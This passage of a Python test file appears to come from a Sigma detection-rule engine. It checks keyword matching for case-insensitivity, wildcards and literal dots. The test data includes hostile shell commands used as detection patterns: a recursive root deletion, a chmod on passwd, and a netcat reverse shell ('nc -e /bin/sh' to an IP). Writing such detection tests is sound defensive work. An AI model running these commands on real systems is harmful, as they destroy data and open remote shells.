        targets = [t for v in entry.fields.values() for t in ([v] if isinstance(v, str) else v)]
        for target in targets + list(entry.where) + [entry.keywords]:
            from_raw = entry.raw is not None and target.startswith(f"{entry.raw}.")
            assert from_raw or target in decoder_written or vocabulary.known(target), (entry.logsource, target)


def test_a_long_keyword_list_keeps_sigma_semantics(tmp_path: Path) -> None:
    """Three or more keywords are searched in one pass: still case-insensitive, wildcards, anywhere in the line."""
    rule = only(tmp_path, """
        keywords:
            - 'rm -rf /'
            - 'chmod 777 *passwd'
            - 'nc -e ?bin'
            - 'a.b'
        condition: keywords
    """, "{product: linux}")

    def line(text: str) -> bool:
        return rule.predicate({"event.dataset": "system.auth", "event.original": f"sudo: x : COMMAND={text}"})

    assert line("RM -RF / --no-preserve-root")
    assert line("chmod 777 /etc/passwd now")
    assert line("nc -e /bin/sh 1.2.3.4")
    assert line("a.b")
    assert not line("axb")  # a dot is a dot, not a regular expression
    assert not line("chmod 777 /etc/shadow")
    assert not line("nc -e bin")
